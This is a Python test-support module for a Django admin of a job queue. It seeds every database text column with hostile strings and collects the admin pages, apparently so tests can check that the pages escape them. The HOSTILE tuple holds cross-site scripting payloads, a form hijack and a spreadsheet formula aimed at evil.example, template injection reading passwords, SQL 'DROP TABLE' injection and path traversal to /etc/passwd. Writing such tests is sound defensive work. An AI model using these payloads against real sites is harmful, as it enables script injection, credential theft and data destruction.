"""Texts that attack whoever shows them, in every column that can hold text, and where they are shown."""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterator, Sequence
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlencode

from django.contrib.admin.models import CHANGE, LogEntry
from django.contrib.auth.models import User
from django.contrib.contenttypes.models import ContentType
from django.db import connection
from django.urls import reverse
from psycopg.types.json import Jsonb

from awa_django.models import Job
from tests.admin.routes import ACCESS, PAGES, ROUTES
from tests.factories import insert_job

# awaHit is what a script would call that gets to run, awa-hit an element that gets to be one. None of
# these is part of another: a search finds one.
HOSTILE = (
    "<script>awaHit(1)</script>",
    "</script><script>awaHit()</script>",
    "<ScRiPt src=//evil.example/awaHit></sCrIpT >",
    "<img src=x class=awa-hit onerror=awaHit()>",
    '"><img src=x class="awa-hit" onerror="awaHit()">',
    "'><img src=x class='awa-hit' onerror='awaHit()'>",
    "<svg/onload=awaHit() class=awa-hit>",
    "</pre></title></textarea></style></noscript><svg class=awa-hit onload=awaHit()>",
    "--><iframe class=awa-hit srcdoc='<script>parent.awaHit()</script>'></iframe><!--",
    "]]><awa-hit>",
    '" autofocus onfocus="awaHit()" x="',
    "' onmouseover='awaHit()' style='position:fixed;inset:0' x='",
    "` onclick=awaHit() x=`",
    "x onpointerover=awaHit() y=",
    "';awaHit();//",
    '";awaHit(2);//',
    '\\";awaHit();//\\u0022;awaHit()',
    "${awaHit()} #{awaHit()} `${awaHit()}`",
    "javascript:awaHit()",
    " \x01java\tscript:awaHit()",
    "data:text/html,<script>awaHit()</script>",
    "//evil.example/awaHit(3)",
    "&lt;img src=x class=awa-hit onerror=awaHit()&gt;&#60;script&#62;awaHit()&#60;/script&#62;",
    "</form><form class=awa-hit action=//evil.example><input name=csrfmiddlewaretoken>",
    "<meta http-equiv=refresh content=0;url=//evil.example><base class=awa-hit href=//evil.example>",
    "<style class=awa-hit>*{background:url(//evil.example/awaHit)}</style>",
    "<a class=awa-hit href=&#106;avascript:awaHit()>x</a>",
    "<math><mi//xlink:href='data:x,<script>awaHit()</script>'><awa-hit>",
    "{{ 7|add:7 }}{% debug %}{{ request.user.password }}<awa-hit>",
    "%s %(x)s {0} {x.__class__} %n%n <awa-hit>",
    "=HYPERLINK('//evil.example/awaHit','x')<awa-hit>",
    "\u202egnp.<awa-hit>\u2066\u200f\ufeff\u2028\u2029\x85",
    "\x1b[31mred\x1b[0m\x1b]8;;//evil.example\x07\x08\x7f\x01<awa-hit>",
    ("<b class=awa-hit>" + "W" * 200)[:200],
    "'; DROP TABLE awa.jobs_hot; -- <awa-hit>",
    "../../../etc/passwd?next=//evil.example&x=<awa-hit>#awaHit",
)
# Where a text is one of few that the database itself allows, or none that anybody but a worker may write.
WITHOUT_TEXT = {"cron_jobs.missed", "leaders.duty", "schema_version.name"}
READABLE = [route for name, route in ROUTES.items() if name in ACCESS and ACCESS[name].read is not None]
LINKS = {"action", "background", "cite", "data", "formaction", "href", "poster", "src", "xlink:href"}


def harmless(number: int) -> str:
    """A text of which no page makes anything, to compare the pages with."""
    return f"plain text {number}"


def fill(texts: Sequence[str]) -> tuple[list[int], list[int]]:
    """Rows with each text wherever one can be; the ids of the hot and of the deferred jobs."""
    hot, deferred = [], []
    for number, text in enumerate(texts):
        entry = dict.fromkeys(
            ("error", "class", "traceback", "outcome", "at", "worker", "by", "attempt", text), text
        )
        columns: dict[str, Any] = {
            "kind": text,
            "queue": text,
            "args": {text: text, "nested": [{text: text}]},
            "metadata": {text: text},
            "progress": {text: text, "message": text},
            "result": Jsonb(text),
            "errors": [entry, {"error": text}],
            "tags": [text, f"{text} "],
        }
        key = number.to_bytes(16, "big")
        hot.append(insert_job("failed", worker=text, **columns))
        deferred.append(
            insert_job("retryable", worker=text, unique_key=key, unique_states="11111111", **columns)
        )
        insert_job("running", **columns)
        _fill_small_tables(number, text)
        user = User.objects.create(username=text[:150], is_staff=True)
        LogEntry.objects.create(
            user=user,
            content_type=ContentType.objects.get_for_model(Job),
            object_id=str(hot[-1]),
            object_repr=text,
            action_flag=CHANGE,
            change_message=text,
        )
    return hot, deferred


def _fill_small_tables(number: int, text: str) -> None:
    statements: dict[str, list[Any]] = {
        "INSERT INTO awa.job_kinds (kind, queue) VALUES (%s, %s)": [text] * 2,
        "INSERT INTO awa.runtime_instances (name, supervisor, hostname, pid, version, queues, concurrency) "
        "VALUES (%s, %s, %s, 1, %s, ARRAY[%s], 1)": [text] * 5,
        "INSERT INTO awa.waiters (worker, queues, expires_at) VALUES (%s, ARRAY[%s], now())": [text] * 2,
        "INSERT INTO awa.queue_meta (queue, paused, paused_at, paused_by) VALUES (%s, true, now(), %s)": [
            text
        ] * 2,
        "INSERT INTO awa.cron_jobs (name, cron_expr, timezone, kind, queue, args, metadata, tags, paused, "
        "paused_by) VALUES (%s, %s, %s, %s, %s, %s, %s, ARRAY[%s], true, %s)": [
            *[text] * 5, Jsonb({text: text}), Jsonb({text: text}), *[text] * 2
        ],
        "INSERT INTO awa.queue_stats (minute, queue, kind, completed_count) "
        "VALUES (date_trunc('minute', now()), %s, %s, 1)": [text] * 2,
        "INSERT INTO awa.queue_totals (queue, kind, completed_count) VALUES (%s, %s, 1)": [text] * 2,
        "INSERT INTO awa.queue_stats_deltas (minute, queue, kind, completed_count) "
        "VALUES (date_trunc('minute', now()), %s, %s, 1)": [text] * 2,
        "UPDATE awa.leaders SET holder = %s, expires_at = now() + interval '1 hour' "
        "WHERE duty = (SELECT duty FROM awa.leaders ORDER BY duty OFFSET %s LIMIT 1)": [text, number],
    }  # fmt: skip
    with connection.cursor() as cursor:
        for statement, values in statements.items():
            cursor.execute(statement, values)


def empty() -> None:
    """Take away what ``fill`` wrote."""
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT string_agg(format('%I.%I', schemaname, tablename), ', ') FROM pg_tables "
            "WHERE schemaname = 'awa' AND tablename NOT IN ('schema_version', 'leaders')"
        )
        cursor.execute(f"TRUNCATE {cursor.fetchone()[0]}")


def columns_without() -> set[str]:
    """Columns of text in which no row has a hostile one."""
    with connection.cursor() as cursor:
        cursor.execute(
            """
            SELECT table_name, column_name
            FROM information_schema.columns JOIN information_schema.tables USING (table_schema, table_name)
            WHERE table_schema = 'awa' AND table_type = 'BASE TABLE'
                AND udt_name IN ('text', '_text', 'varchar', '_varchar', 'jsonb', '_jsonb')
            """
        )
        columns = cursor.fetchall()
        missing = set()
        for table, column in columns:
            cursor.execute(f"SELECT count(*) FROM awa.{table} WHERE {column}::text LIKE '%awaHit%'")
            if not cursor.fetchone()[0]:
                missing.add(f"{table}.{column}")
    return missing


def lists() -> list[str]:
    """Every page without an argument, and the pages of Django that name ours."""
    ours = [route.url() for route in READABLE if not route.arguments]
    return [*ours, reverse("admin:index"), reverse("admin:app_list", args=["awa"])]


def details(name: str, job_id: int) -> list[str]:
    """Every page of this job under the list of that name."""
    return [
        reverse(f"admin:{route.name}", args=[job_id])
        for route in READABLE
        if route.name.startswith(f"awa_{name}_") and route.arguments == ("object_id",)
    ]


def filtered(text: str) -> Iterator[str]:
    """Each list, asked for the text by all its filters and by its search."""
    for name, page in PAGES.items():
        parameters = [getattr(choice, "parameter_name", "") for choice in page.list_filter]
        if page.search_fields or parameters:
            url = reverse(f"admin:awa_{name}_changelist")
            named = {parameter: text for parameter in parameters if parameter in ("queue", "kind", "tag")}
            yield f"{url}?{urlencode({'q': text, **named})}"
            yield f"{url}?{urlencode({**dict.fromkeys(parameters, text), 'q': text, 'o': text, 'p': text})}"


class Skeleton(HTMLParser):
    """The elements of a page with the names of their attributes, in any order: rows are sorted by text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.shape: Counter[tuple[str, tuple[str, ...]]] = Counter()
        self.links: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape[tag, tuple(name for name, _ in attrs)] += 1
        self.links += [value or "" for name, value in attrs if name in LINKS]

    def handle_endtag(self, tag: str) -> None:
        self.shape[f"/{tag}", ()] += 1
